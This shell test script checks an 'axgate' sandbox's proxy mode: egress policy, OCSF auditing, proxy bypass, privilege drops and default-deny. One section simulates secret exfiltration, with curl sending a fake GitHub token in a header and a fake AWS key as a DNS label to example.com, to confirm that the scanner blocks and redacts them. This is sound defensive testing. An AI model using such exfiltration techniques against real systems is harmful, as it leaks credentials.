#!/bin/sh
# axgate run in proxy mode, end to end: the job's only way out is the
# proxy on the host end of its veth, which decides with the policy and
# writes OCSF events that the launcher relays into its sinks.
. "$top_srcdir/tests/lib.sh"

need_root "axgate run needs root (namespaces, Landlock, seccomp)"
command -v curl >/dev/null || skip_all "curl is not installed (contrib/install-deps installs it)"
command -v python3 >/dev/null || skip_all "python3 is not installed (contrib/install-deps installs it)"

tmp=$(mktemp -d) || exit 1
chmod 755 "$tmp"
upstream=""
cleanup() {
	[ -n "$upstream" ] && kill "$upstream" 2>/dev/null
	rm -rf "$tmp"
}
trap cleanup EXIT
# Job links whose launcher is gone: leaked (a link of a live launcher
# belongs to a job running now, perhaps another test's).
stale_links() {
	ip -o link show | grep -o 'alias axgate owner=[0-9]*' |
	while read -r _ _ o; do
		kill -0 "${o#owner=}" 2>/dev/null || echo "$o"
	done | wc -l
}
links_before=$(stale_links)

# An upstream on the host's loopback: the proxy dials it, the job cannot.
port=$((20000 + $$ % 20000))
mkdir "$tmp/www"
echo "hello from upstream" >"$tmp/www/index.html"
python3 -m http.server "$port" --bind 127.0.0.1 --directory "$tmp/www" \
	>/dev/null 2>&1 &
upstream=$!
i=0
while ! curl -s -o /dev/null "http://127.0.0.1:$port/" && [ $i -lt 50 ]; do
	sleep 0.1
	i=$((i + 1))
done

cat >"$tmp/p.yaml" <<YAML
version: 1
name: run-proxy-test
network:
  mode: proxy
  policies:
    - name: upstream
      endpoints:
        - {cidr: 127.0.0.1/32, port: $port}
YAML

# --noproxy '': the job's NO_PROXY names 127.0.0.1 (its own loopback);
# here 127.0.0.1 is meant as the proxy's.
out=$("$AXGATE" run --policy "$tmp/p.yaml" --workspace "$tmp" \
    --audit "$tmp/audit.jsonl" -- /bin/sh -c "
	echo proxy=\$HTTP_PROXY
	curl --noproxy '' -sS -m 10 http://127.0.0.1:$port/index.html
	curl --noproxy '' -sS -m 10 -o /dev/null -w 'denied=%{http_code}\n' \
	    http://127.0.0.1:$((port + 1))/
	curl -sS -m 10 https://example.com/ 2>&1 | tail -1
	h=\${HTTP_PROXY#http://}
	curl --noproxy '*' -sS -m 5 http://\${h%:*}:$port/ 2>&1 | tail -1
	exit 7" 2>&1)
rc=$?
is "$rc" 7 "the job's exit status is passed through"
# The job's /30 is the first free one of the pool: not always the first
# (other jobs, or a namespace the kernel is still removing).
proxy=$(printf '%s\n' "$out" | sed -n 's|^proxy=http://\(10\.200\.[0-9]*\.[0-9]*\):3128$|\1|p')
ok $([ -n "$proxy" ]; echo $?) "the job is pointed at the proxy on its veth"
like "$out" "hello from upstream" "an allowed request reaches the upstream"
like "$out" "denied=403" "a denied request gets 403"
like "$out" "CONNECT tunnel failed, response 403" "a denied CONNECT gets 403"
like "$out" "Failed to connect to ${proxy:-10.200.} port $port" \
	"a connection around the proxy fails"

audit="$tmp/audit.jsonl"
is "$(wc -l <"$audit")" 5 "five events: launch, two requests, a CONNECT, exit"
job=$(sed -n 1p "$audit" | sed -n 's/.*"correlation_uid":"\(j-[0-9a-f]*\)".*/\1/p')
ok $([ -n "$job" ]; echo $?) "the launch carries the job id"
is "$(grep -c "\"correlation_uid\":\"$job\"" "$audit")" 5 \
	"every event carries the job id"
allowed=$(grep '"class_uid":4002' "$audit" | sed -n 1p)
denied=$(grep '"class_uid":4002' "$audit" | sed -n 2p)
connect=$(grep '"class_uid":4001' "$audit")
like "$allowed" '"status":"Success"' "the allowed request is a success"
like "$allowed" '"firewall_rule":{"name":"upstream"' "with the rule that allowed it"
like "$allowed" '"policy":{"name":"run-proxy-test"' "and the policy"
like "$denied" '"code":403' "the denied request is a 403"
like "$connect" '"activity_name":"Refuse"' "the denied CONNECT is a Refuse"
like "$connect" '"hostname":"example.com"' "naming the host"
like "$connect" "no policy allows example.com" "with the policy's reason"
uids=$(python3 -c 'import json, sys
print(len({json.loads(l)["metadata"]["uid"] for l in open(sys.argv[1])}))' \
	"$audit")
is "$uids" 5 "every event has a uid of its own (the proxy child's too)"
validator="$AXG_SHARED_DIR/ocsf/ocsf-validate"
if [ -f "$validator" ]; then
	vout=$(python3 "$validator" "$audit" 2>&1)
	like "$vout" "5 passed, 0 failed" "every event passes ocsf-validate (strict)"
else
	skip "ocsf-validate" "the shared OCSF validator is not at $validator"
fi

# The credential scanner in the proxy (safety.credential_scan defaults to
# block): a token in a header and a key smuggled out as a DNS label.
out=$("$AXGATE" run --policy "$tmp/p.yaml" --workspace "$tmp" \
    --audit "$tmp/leak.jsonl" -- /bin/sh -c "
	curl --noproxy '' -sS -m 10 -H 'Authorization: token \
ghp_R4nd0mT0k3nV4lu3Abcdefghij0123456789' http://127.0.0.1:$port/index.html
	echo
	curl -sS -m 10 https://AKIAQWERTYUIOPASDFGH.example.com/ 2>&1 | tail -1
	" 2>&1)
like "$out" '"reason":"credential found in a header"' \
	"a GitHub token in a header is blocked with 403"
unlike "$out" "hello from upstream" "... and nothing reaches the upstream"
like "$out" "CONNECT tunnel failed, response 403" \
	"an AWS key as a DNS label is blocked"
leak="$tmp/leak.jsonl"
is "$(grep -c '"class_uid":2004' "$leak")" 2 "each finding is a Detection Finding"
like "$(grep '"class_uid":2004' "$leak" | sed -n 1p)" \
	'GitHub personal access token' "naming the rule"
unlike "$(cat "$leak")" "R4nd0mT0k3nV4lu3" "the secret is never in the audit"
like "$(grep '"class_uid":1007' "$leak" | sed -n 1p)" "[REDACTED:github-pat]" \
	"the job's command line is audited with the token redacted"
if [ -f "$validator" ]; then
	like "$(python3 "$validator" "$leak" 2>&1)" "6 passed, 0 failed" \
		"the findings pass ocsf-validate (strict)"
else
	skip "ocsf-validate" "the shared OCSF validator is not at $validator"
fi

# The proxy child: an unprivileged user, no capabilities, no_new_privs,
# a seccomp filter, from before it reads a byte.
"$AXGATE" run --policy "$tmp/p.yaml" --workspace "$tmp" -- sleep 3 &
launcher=$!
child=""
i=0
while [ -z "$child" ] && [ $i -lt 50 ]; do
	sleep 0.1
	for p in $(pgrep -P "$launcher"); do
		if grep -q '^Seccomp:.*2' "/proc/$p/status" 2>/dev/null &&
		    grep -q '^Uid:.*65534' "/proc/$p/status"; then
			child=$p
		fi
	done
	i=$((i + 1))
done
ok $([ -n "$child" ]; echo $?) "the proxy runs in a child of the launcher"
if [ -n "$child" ]; then
	st=$(cat "/proc/$child/status")
	like "$st" "Uid:	65534	65534	65534	65534" "as nobody"
	like "$st" "CapEff:	0000000000000000" "with no effective capabilities"
	like "$st" "CapBnd:	0000000000000000" "and an empty bounding set"
	like "$st" "NoNewPrivs:	1" "with no_new_privs"
	like "$st" "Seccomp:	2" "under a seccomp filter"
else
	for t in 1 2 3 4 5; do skip "proxy child $t" "no proxy child found"; done
fi
wait "$launcher"

# The built-in default policy: proxy mode, every attempt denied and audited.
out=$("$AXGATE" run --workspace "$tmp" --audit "$tmp/default.jsonl" -- \
    curl -sS -m 10 -o /dev/null -w '%{http_code}' http://example.com/ 2>&1)
is "$out" 403 "the default policy denies egress"
like "$(cat "$tmp/default.jsonl")" '"policy":{"name":"default-deny"' \
	"and audits the attempt under its name"

links_after=$(stale_links)
is "$links_after" "$links_before" "no job network is left behind"

done_testing
